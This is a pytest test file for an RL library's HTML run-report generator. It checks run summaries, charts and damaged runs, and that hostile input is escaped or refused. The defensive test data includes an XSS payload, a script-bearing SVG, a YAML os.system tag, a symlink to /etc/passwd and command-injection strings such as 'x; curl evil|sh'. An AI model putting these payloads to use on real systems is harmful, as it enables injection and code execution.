"""`report`: what a page says of runs that are finished, running, damaged, or of somebody who means ill."""

from __future__ import annotations

import json
import math
import os
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from support.reports import ReadPage, learning, row, write_rows
from support.trained import Runs, context

from maze_core import NothingUsableError, UserError, report
from maze_core.runs.lock import RunLock
from maze_core.runs.stored_run import StoredRun

pytestmark = pytest.mark.usefixtures("workdir")

SHELF = str(Path(__file__).parents[1] / "data" / "shelf.py")


def read(*run_dirs: str | Path, **options: Any) -> ReadPage:
    """The page about runs; without an animation if nobody asks for one."""
    return ReadPage(report(run_dirs, **{"animation": False, "local_plugins": False, **options}))


@pytest.fixture
def run(runs: Runs, workdir: Path) -> Path:
    """A run of ten epochs whose statistics are known."""
    return write_rows(runs.copy("flat", Path("run")), learning())


# One run


def test_the_summary_says_how_it_went(run: Path) -> None:
    text = read(run).text
    assert "CartPole-v1, es" in text
    assert "Final evaluation 87.500 ± 2 (std) of 4 episodes" in text
    assert "Best evaluation 90 epoch 9, ± 2 (std) of 4 episodes" in text
    assert "Env steps 10,000 10 updates in 10 epochs" in text
    assert "Training time 20.0 s 500 env steps/s" in text
    assert f"Status finished Ended {StoredRun(run).condition().summary['stop_reason']} Env" in text


def test_curves_are_those_of_the_statistics(run: Path) -> None:
    curve = read(run).curve("Episode return", "evaluation")
    assert curve["y"] == [10.0 * epoch for epoch in range(10)]
    assert curve["x"][0] == [1000 * (epoch + 1) for epoch in range(10)]
    assert (curve["low"][0], curve["high"][0]) == (-3, 5)


def test_what_algorithm_and_env_tell_has_charts_of_its_own(run: Path) -> None:
    write_rows(run, learning(TrainerEvents__lr__mean=0.1, KPIs__usage__mean=0.5, Cuts__valid__mean_episode_total=3.0))
    page = read(run)
    assert {"Learning rate", "Usage", "Valid"} <= set(page.charts)
    assert [curve["label"] for curve in page.charts["Learning rate"]["curves"]] == ["training"]
    assert [curve["label"] for curve in page.charts["Usage"]["curves"]] == ["evaluation", "training"]
    assert "Valid total of an episode (Cuts) 3 3 3" in page.text


def test_the_return_that_was_to_be_reached_is_a_line(run: Path) -> None:
    text = (run / "config.yaml").read_text()
    (run / "config.yaml").write_text(text.replace("stop_at_reward: null", "stop_at_reward: 75"))
    assert read(run).charts["Episode return"]["threshold"] == {"value": 75.0, "label": "solved at"}


def test_what_differs_from_the_defaults_is_a_table(run: Path) -> None:
    text = read(run).text
    assert "What differs from the defaults option default this run" in text
    assert "algorithm.n_rollouts_per_update" in text
    assert "model.hidden_sizes [64,64] [4]" in text
    assert "n_optimization_epochs" not in text


def test_networks_are_images_and_never_part_of_the_page(run: Path) -> None:
    (run / "networks" / "policy-evil.svg").write_text(
        "<svg xmlns='http://www.w3.org/2000/svg'><script>1</script></svg>"
    )
    page = read(run)
    assert not [tag for tag, _ in page.elements if tag == "svg"]
    assert len([a for tag, a in page.elements if tag == "img" and a["src"].startswith("data:image/svg+xml")]) == 2


def test_its_environment_and_its_commands_are_told(run: Path) -> None:
    (run / "command.txt").write_text("maze train 'env.name=a b'\nmaze resume run\n")
    (run / "environment.json").write_text(
        json.dumps({"git_revision": "abc-dirty", "plugins": {"es": "9.9"}, "seed": 3})
    )
    text = read(run, plugins=SHELF, variables="HOME").text
    assert "maze train 'env.name=a b' maze resume run" in text
    assert "Git revision abc-dirty" in text
    assert "es plugin 9.9" in text
    for command in ("resume run", "reproduce run", "export run", "rollout --run run"):
        assert f"maze {command} --plugin {SHELF} --no-local --env HOME" in text


def test_paths_in_commands_are_quoted(run: Path) -> None:
    run.rename("my run;x")
    assert "maze resume 'my run;x'" in read("my run;x").text


def test_the_page_lies_in_the_directory_and_is_replaced_by_the_next(run: Path) -> None:
    assert report(run, animation=False) == run / "report.html"
    first = (run / "report.html").read_bytes()
    write_rows(run, learning(3))
    report(str(run), animation=False)
    assert (run / "report.html").read_bytes() != first


def test_nothing_else_of_the_run_changes_and_it_is_resumed_as_before(run: Path, runs: Runs) -> None:
    run = runs.copy("flat", Path("other"))
    before = {path: path.read_bytes() for path in run.rglob("*") if path.is_file()}
    condition = StoredRun(run).condition()
    report(run, animation=False)
    assert {
        path: path.read_bytes() for path in run.rglob("*") if path.is_file() and path.name != "report.html"
    } == before
    after = StoredRun(run).condition()
    assert (after.status, after.summary, after.problems) == (condition.status, condition.summary, condition.problems)


# Animation


def test_an_episode_of_the_best_policy_is_shown_and_stands_still_until_it_is_asked_for(runs: Runs) -> None:
    page = read(runs("flat"), animation=True, path="page.html")
    frames = [a["src"] for tag, a in page.elements if tag == "img" and a["src"].startswith("data:image/webp")]
    assert len(frames) == 2
    assert "The best policy in an episode of the final evaluation" in page.text
    assert "episode_seeds=[" in page.text
    tags = [(tag, a.get("class")) for tag, a in page.elements]
    assert tags[tags.index(("details", "film")) + 1] == ("summary", None)
    assert len(page.source) < 3 * 2**20


def test_an_env_that_cannot_be_rendered_is_told(workdir: Path) -> None:
    with context("flat", env="shelf", plugins=SHELF, run_dir="run") as trained:
        trained.train()
    text = read("run", animation=True, plugins=SHELF).text
    assert "No episode can be shown. env " in text
    assert "cannot be rendered" in text
    without = read("run", animation=True).text
    assert "What differs from the defaults cannot be known. no env named 'shelf'" in without
    assert "No episode can be shown. no env named 'shelf'" in without


def test_live_objects_are_not_needed_for_the_page(workdir: Path) -> None:
    import gymnasium

    with context("flat", env=lambda: gymnasium.make("CartPole-v1"), run_dir="run") as trained:
        trained.train()
    text = read("run", animation=True).text
    assert "What differs from the defaults option default" in text
    assert "No episode can be shown. run was given objects by a Python program" in text
    assert "input_dir=run" not in text


# Runs that are not whole


def test_a_run_without_statistics_has_a_page(runs: Runs, workdir: Path) -> None:
    run = runs.copy("flat", workdir / "run")
    (run / "metrics.jsonl").unlink(missing_ok=True)
    assert "There are no statistics yet" in read(run).text


def test_a_run_that_goes_on_says_so(run: Path) -> None:
    lock = RunLock(run)
    try:
        text = read(run).text
    finally:
        lock.release()
    assert f"The run was going on when this page was made, by process {os.getpid()}" in text


DAMAGES: dict[str, tuple[Callable[[Path], Any], str]] = {
    "configuration": (lambda run: (run / "config.yaml").write_text("a: !!python/name:os.system ''\n"), "has the tag"),
    "statistics": (lambda run: (run / "metrics.jsonl").write_text("{}\n"), "is no row of statistics"),
    "checkpoints": (lambda run: shutil.rmtree(run / "checkpoints"), "has no checkpoint in checkpoints"),
    "environment": (lambda run: (run / "environment.json").write_text("[" * 10_000), "Git revision none"),
    "networks": (lambda run: shutil.rmtree(run / "networks"), "no pictures of its networks"),
    "weights": (lambda run: (run / "state_dict.pt").unlink(), "No episode can be shown. run run has no state_dict.pt"),
}  # fmt: skip


@pytest.mark.parametrize(("damage", "words"), DAMAGES.values(), ids=DAMAGES)
def test_what_is_damaged_is_told(damage: Callable[[Path], Any], words: str, run: Path) -> None:
    damage(run)
    assert words in read(run, animation=words.startswith("No episode")).text


def test_values_that_are_not_finite_are_told(run: Path) -> None:
    write_rows(run, [row(0, mean=1.0), row(1, mean=math.nan), row(2, mean=3.0)])
    page = read(run)
    assert "are left out of the curves: BaseEnvEvents/reward/mean (1)" in page.text
    assert page.curve("Episode return", "evaluation")["y"] == [1, 3]


def test_long_runs_are_drawn_with_fewer_points_and_say_so(run: Path) -> None:
    rows = [row(epoch, mean=float(epoch == 1234)) for epoch in range(3000)]
    page = read(write_rows(run, rows))
    curve = page.curve("Episode return", "evaluation")
    assert len(curve["y"]) <= 1002
    assert max(curve["y"]) == 1
    assert "are drawn with about so many" in page.text
    assert "Evaluations, 201 of 3,000" in page.text  # 200, and the best one


def test_the_page_of_a_long_run_stays_small(run: Path) -> None:
    told = {f"TrainerEvents__metric_{i}__mean": 0.1 for i in range(15)}
    told |= {f"Events__event_{i}__mean_episode_total": 0.1 for i in range(60)}
    rows = [row(epoch, stage, **{name: value + epoch / 7 for name, value in told.items()}) for epoch in range(1000)
            for stage in ("train", "eval")]  # fmt: skip
    page = read(write_rows(run, rows))
    assert len(page.source) < 3 * 2**20
    assert len(page.charts) == 2 + 15 + 60


@pytest.mark.parametrize("where", ["a folder", "a file", "nothing"])
def test_what_is_no_run_is_refused(where: str) -> None:
    {"a folder": lambda: Path("there").mkdir(), "a file": lambda: Path("there").touch(), "nothing": int}[where]()
    with pytest.raises(NothingUsableError, match=r"is no (run )?directory"):
        report("there")


# Texts of others

EVIL = "</script><script>hacked=1</script><img src=x onerror=hacked=1>\"'&{{}}"


def test_no_text_of_a_run_becomes_part_of_the_page(run: Path) -> None:
    text = (run / "config.yaml").read_text()
    (run / "config.yaml").write_text(text.replace("name: CartPole-v1", f"name: {json.dumps(EVIL)}"))
    (run / "command.txt").write_text(EVIL)
    (run / "overrides.txt").write_text(f"a={EVIL}\n")
    (run / "environment.json").write_text(json.dumps({"python": EVIL, "plugins": {EVIL: EVIL}, "created": [EVIL]}))
    names = {f"TrainerEvents/{EVIL}/mean": 1.0, f"Evil/{EVIL}/mean_episode_total": 1.0, EVIL: math.nan}
    write_rows(run, [{**row(0, stage), "values": names} for stage in ("train", "eval")])
    run = run.rename("a <b> run")
    page = read(run)
    assert [tag for tag, a in page.elements if tag == "script" and a.get("type") is None] == ["script"]
    assert not [a for tag, a in page.elements if tag == "img" and not a["src"].startswith("data:")]
    assert "hacked=1" in page.text
    assert not [tag for tag, _ in page.elements if tag == "b"]


HOSTILE = {
    "an option": "--plugin=/tmp/evil.py",
    "an option behind blanks": " -cd=/tmp/evil",
    "an env of a module": "env.name=evilmod:Foo-v1",
    "in quotes": "++env.name='evil-mod:Foo-v1'",
    "put together": "env.name='${a}'",
    "of an argument": "+env.kwargs.env_id=evilmod:Foo",
    "deeper": "env.kwargs={a: [evilmod:Foo]}",
    "elsewhere": "+a.b=[evilmod:Foo]",
    "no override": "x; curl evil|sh",
}


@pytest.mark.parametrize("line", HOSTILE.values(), ids=HOSTILE)
def test_no_command_to_be_copied_runs_code_of_the_run(line: str, run: Path) -> None:
    (run / "overrides.txt").write_text(f"algorithm.lr=0.1\n{line}\nrun_dir=run\n")
    page = read(run)
    assert "maze train --no-local algorithm.lr=0.1 input_dir=run" in page.text
    told = page.text.partition("Left out of the command that starts another run")[2]
    assert " ".join(line.split()) in told


def test_what_was_typed_is_shown_as_it_was_and_not_to_be_copied(run: Path) -> None:
    (run / "command.txt").write_text("maze resume x; curl evil|sh\n")
    page = read(run)
    assert "Started with, and taken up with, as recorded in the run maze resume x; curl evil|sh" in page.text
    copied = page.values("aria-label")
    assert any(name.startswith("Copy: Go on with it") for name in copied)
    assert not [name for name in copied if name.startswith("Copy: Started with")]


def test_a_link_in_the_place_of_a_file_is_not_followed(run: Path) -> None:
    shutil.copy("/etc/passwd", "secret.svg")
    (run / "networks" / "a.svg").symlink_to(Path("secret.svg").absolute())
    assert len([tag for tag, _ in read(run).elements if tag == "img"]) == 1


def test_no_plugin_is_loaded_from_any_of_the_runs(run: Path, runs: Runs, monkeypatch: pytest.MonkeyPatch) -> None:
    other = runs.copy("flat", Path("other"))
    for name in ("command.txt", "environment.json"):
        (other / name).unlink()
    (other / "maze_plugins.py").write_text("from pathlib import Path\nPath('executed').touch()\n")
    monkeypatch.chdir(other)
    read("../run", ".", path="../page.html", local_plugins=True)
    assert not Path("executed").exists()


# Several runs


def test_several_runs_are_side_by_side(run: Path, runs: Runs, workdir: Path) -> None:
    other = write_rows(runs.copy("structured", workdir / "other"), learning(4))
    page = read(run, other)
    assert Path("report.html").is_file()
    assert [curve["label"] for curve in page.charts["Episode return"]["curves"]] == ["run", "other"]
    assert "run finished 87.500 2 90 10 10,000 20.0 s" in page.text
    assert "other finished 27.500 2 30 4 4,000 8.0 s" in page.text
    assert "components.algorithm es ppo" in page.text
    assert {"run-1", "run-2"} <= set(page.values("id"))
    assert len(set(page.values("id"))) == len(page.values("id"))


def test_runs_with_the_same_configuration_say_so(run: Path, workdir: Path) -> None:
    shutil.copytree(run, "again")
    assert "All runs have the same configuration" in read(run, "again").text


def test_a_run_that_is_named_twice_is_shown_once(run: Path) -> None:
    Path("link").symlink_to(run)
    assert report([run, "link", f"../{Path.cwd().name}/run"], animation=False) == run / "report.html"


@pytest.mark.parametrize("n", [0, 51])
def test_there_are_not_any_number_of_runs(n: int, run: Path) -> None:
    with pytest.raises(UserError, match=f"at most 50; {n} were named"):
        report([run] * n)


# Files


@pytest.mark.parametrize("name", ["report.html", "other.html"])
def test_what_is_no_report_is_not_replaced(name: str, run: Path) -> None:
    (run / "report.html").write_text("mine")
    Path("other.html").write_text("mine")
    with pytest.raises(UserError, match=f"{name} exists already, and is no report"):
        report(run, None if name == "report.html" else name)
    assert (run / "report.html").read_text() == Path("other.html").read_text() == "mine"


def test_a_page_is_never_written_through_a_link(run: Path) -> None:
    page = report(run, "page.html", animation=False)
    Path("link.html").symlink_to(page)
    with pytest.raises(UserError, match=r"link\.html exists already"):
        report(run, "link.html")


def test_the_statistics_can_be_had_as_a_table(run: Path) -> None:
    read(run, csv="rows.csv")
    header, *rows = Path("rows.csv").read_text().splitlines()
    assert header.startswith("run,epoch,stage,update,env_steps,train_s,evaluation_s,wall_s,BaseEnvEvents/reward/mean,")
    assert len(rows) == 21
    assert rows[1].startswith("run,0,eval,1,1000,2.0,0.5,3.0,0.0,2.0,-3.0,5.0,")


def test_the_curves_can_be_had_as_a_picture(run: Path) -> None:
    read(run, png="curves.png")
    assert Path("curves.png").read_bytes().startswith(b"\x89PNG")
    with pytest.raises(UserError, match="must end in"):
        report(run, png="curves.doc")
